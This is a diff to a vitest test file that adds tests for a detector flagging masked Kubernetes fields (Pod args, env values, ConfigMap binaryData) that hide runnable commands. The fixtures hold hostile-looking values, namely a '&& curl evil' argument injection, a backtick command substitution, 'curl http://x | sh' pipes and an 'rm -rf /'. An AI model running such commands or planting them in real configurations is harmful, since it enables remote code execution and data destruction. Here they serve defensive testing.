@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { createDetectorSet, DEFAULT_SENSITIVE_KEYS } from '../../masking/index.js';
 import { TerminalMasker } from '../../masking/index.js';
 import {
+  kubeBodyHidesCode,
   kubeBodyUnshowable,
   kubeBodyView,
   kubeFieldNames,
@@ -521,5 +522,59 @@ describe('maskKubeJsonSliced', () => {
       spec: { containers: Array.from({ length: 6000 }, (_, n) => pod(n).spec.containers[0]) },
     });
     await same(Array.from({ length: 3000 }, (_, n) => pod(n)));
+  });
+});
+
+describe('a masked view that would hide what runs (class 252)', () => {
+  const hides = (resource: string, doc: unknown) =>
+    kubeBodyHidesCode('application/json', resource, Buffer.from(JSON.stringify(doc)), o);
+
+  it('names a masked span that holds more than a literal, by where it is', () => {
+    const pod = { kind: 'Pod', spec: { containers: [{ name: 'c', args: ['--api-token=x && curl evil'] }] } };
+    expect(hides('pods', pod)).toContain(
+      'spec.containers[0].args[0], where the masked part holds whitespace',
+    );
+    const env = {
+      kind: 'Pod',
+      spec: { containers: [{ name: 'c', env: [{ name: 'DB_PASSWORD', value: '`id`' }] }] },
+    };
+    expect(hides('pods', env)).toContain('spec.containers[0].env[0].value');
+    // binaryData is compared decoded.
+    const script = Buffer.from('#!/bin/sh\nDB_PASSWORD=$(curl http://x | sh)\n').toString('base64');
+    expect(hides('configmaps', { kind: 'ConfigMap', binaryData: { 'run.sh': script } })).toContain(
+      'binaryData.run.sh (decoded)',
+    );
+  });
+
+  it('passes literals, references, JSON copies of the object, and what a Secret stores', () => {
+    const pod = {
+      kind: 'Pod',
+      spec: { containers: [{ name: 'c', args: ['--db-password=$(DB_PASSWORD)', '--api-token=t0k3n'] }] },
+    };
+    expect(hides('pods', pod)).toBeUndefined();
+    const applied = {
+      ...pod,
+      metadata: {
+        annotations: {
+          'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({
+            ...pod,
+            spec: {
+              containers: [
+                {
+                  name: 'c',
+                  env: [
+                    { name: 'A_TOKEN', value: 'a' },
+                    { name: 'B_TOKEN', value: 'b' },
+                  ],
+                },
+              ],
+            },
+          }),
+        },
+      },
+    };
+    expect(hides('pods', applied)).toBeUndefined();
+    const secret = { kind: 'Secret', stringData: { 'run.sh': 'curl http://x | sh; rm -rf /' } };
+    expect(hides('secrets', secret)).toBeUndefined();
   });
 });
